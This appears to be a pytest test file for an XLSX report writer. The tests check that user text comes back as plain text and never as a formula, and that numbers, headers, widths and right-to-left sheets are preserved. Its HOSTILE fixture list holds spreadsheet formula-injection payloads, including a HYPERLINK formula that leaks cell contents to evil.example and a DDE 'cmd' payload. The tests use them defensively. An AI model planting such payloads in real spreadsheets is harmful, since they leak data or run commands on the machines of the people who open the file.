"""The streaming XLSX writer (integrations/reports/xlsx_writer.py) behind ``/report monthly xlsx``: what a
person typed comes back exactly, as text, never as a formula or an error value; numbers stay numbers;
the header row is bold, the columns have their widths, a Persian protocol's sheets run right to left.
Files are read back with openpyxl, as the protocol tests do (and as a spreadsheet program would)."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook  # type: ignore[import-untyped]

from integrations.reports.xlsx_writer import MAX_TEXT, Sheet, write_xlsx

LONG = ("Входящите обаждания не достигат до операторите; سامانه CRM از کار افتاده. " * 60)[:4000]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "#N/A",
    "#DIV/0!",
    "<!channel> &<> & &amp; </t></is></c><c><v>1</v></c>",
    "\u200fپیام راست‌به‌چپ\u200e then left to right",
    "  leading and trailing spaces  ",
    "line one\nline two\r\nline three\rend",
    "\ttab first",
    LONG,
    "]]><!-- -->",
]


def _book(sheets: list[Sheet]) -> bytes:
    return write_xlsx(sheets)


def test_hostile_text_comes_back_exactly_as_text() -> None:
    rows = [(["text", "n"], True), *[([text, i], False) for i, text in enumerate(HOSTILE)]]
    data = _book([Sheet("Register", [16, 10], rows, (len(rows), 2))])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = list(ws.iter_rows(min_row=2))
    assert [r[0].value for r in cells] == HOSTILE
    assert {r[0].data_type for r in cells} == {"s"}  # no formula ("f"), no error value ("e")
    assert [r[1].value for r in cells] == list(range(len(HOSTILE)))
    assert {r[1].data_type for r in cells} == {"n"}


def test_control_characters_become_the_replacement_character() -> None:
    text = "probe said \x00\x07\x1b[0m\x0b\x0c\ufffe end"
    data = _book([Sheet("S", [], [([text], False)], (1, 1))])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert ws["A1"].value == "probe said \ufffd\ufffd\ufffd[0m\ufffd\ufffd\ufffd end"


def test_text_longer_than_a_cell_is_cut_at_its_limit() -> None:
    data = _book([Sheet("S", [], [(["x" * (MAX_TEXT + 10)], False)], (1, 1))])
    assert load_workbook(io.BytesIO(data)).worksheets[0]["A1"].value == "x" * MAX_TEXT


def test_numbers_stay_numbers_and_empty_cells_stay_empty() -> None:
    rows = [([-49, 29.2, 0, None, "", 10**12, -0.5, float("nan")], False)]
    data = _book([Sheet("S", [], rows, (1, 8))])
    ws = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
    (row,) = list(ws.iter_rows(values_only=True))
    assert list(row[:7]) == [-49, 29.2, 0, None, None, 10**12, -0.5]
    assert row[7] == "nan"  # no such number in a spreadsheet: shown as text


def test_bold_header_widths_right_to_left_and_sheet_names() -> None:
    sheets = [
        Sheet("Спазване & <сроковете>", [24, 14], [(["Категория", "Срок"], True), (["спешен", 5], False)], (2, 2)),
        Sheet("گزارش", [20], [(["سرآیند"], True), (["بحرانی"], False)], (2, 1), rtl=True),
    ]
    wb = load_workbook(io.BytesIO(_book(sheets)))
    assert wb.sheetnames == ["Спазване & <сроковете>", "گزارش"]
    first, second = wb.worksheets
    assert [c.font.b for c in first[1]] == [True, True]
    assert [c.font.b for c in first[2]] == [False, False]
    assert first.column_dimensions["A"].width == 24 and first.column_dimensions["B"].width == 14
    assert not first.sheet_view.rightToLeft and second.sheet_view.rightToLeft
    assert second["A2"].value == "بحرانی"
    assert (first.max_row, first.max_column) == (2, 2)


def test_the_package_is_the_same_bytes_for_the_same_rows() -> None:
    def book() -> bytes:
        return _book([Sheet("S", [10], [(["a", 1], True)], (1, 2))])

    data = book()
    assert data == book()  # no clock in the file: the same protocol gives the same file
    names = zipfile.ZipFile(io.BytesIO(data)).namelist()
    assert {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/styles.xml",
            "xl/worksheets/sheet1.xml"} <= set(names)
